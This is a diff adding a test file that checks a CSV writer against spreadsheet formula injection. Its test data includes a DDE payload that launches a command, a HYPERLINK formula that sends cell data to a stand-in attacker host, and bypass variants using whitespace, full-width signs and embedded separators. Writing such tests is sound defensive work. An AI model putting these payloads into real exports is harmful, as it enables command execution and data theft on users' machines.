@@ -1,0 +1,45 @@
+import { expect, test } from 'vitest';
+import { cellText, csvLine, readCsv } from '../../src/text/csv.ts';
+
+const formula = "=cmd|'/C calc'!A1";
+const typed = [
+  formula,
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  '\t=1+1',
+  ' =1+1',
+  '＝1+1',
+  `a;${formula};b`,
+  'a;=HYPERLINK("http://evil.example/"&A1);b',
+  'a; +1',
+  'a\t@SUM(1)',
+  'a\n-1+1',
+  'a\r\n=1+1',
+  '"=1+1',
+  'a;"=1+1',
+  "'=1+1",
+  "a;'=1+1",
+];
+
+/** The cells that a spreadsheet sees which parts a line by this, without the quotes around them. */
+const cellsBy = (separator: string | RegExp, line: string) =>
+  line.split(separator).map((cell) => cell.replace(/^[\s"]+/, ''));
+
+test.each(typed)('%j is no formula, whichever separator a spreadsheet takes [GRD-07]', (text) => {
+  const line = csvLine(['first', text, 'last']);
+  for (const separator of [';', '\t', /\r?\n|\r/])
+    for (const cell of cellsBy(separator, line)) expect(cell).not.toMatch(/^[=+\-@＝＋－＠]/);
+  const [row] = readCsv(line).rows;
+  expect(row?.cells[1]).not.toMatch(/^["\s]*[=+\-@＝＋－＠]/);
+});
+
+test.each(typed)('%j is read back as it was written', (text) => {
+  const [, quoted = ''] = /^(?:"((?:[^"]|"")*)"|[^,]*)\r\n$/.exec(csvLine([text])) ?? [];
+  const cell = quoted === '' ? csvLine([text]).slice(0, -2) : quoted.replaceAll('""', '"');
+  expect(cellText(cell)).toBe(text);
+});
+
+test('plain texts and numbers are written as they are', () => {
+  expect(csvLine(['a-b', 'a = b', -5, 'x; y'])).toBe('a-b,a = b,-5,"x; y"\r\n');
+});
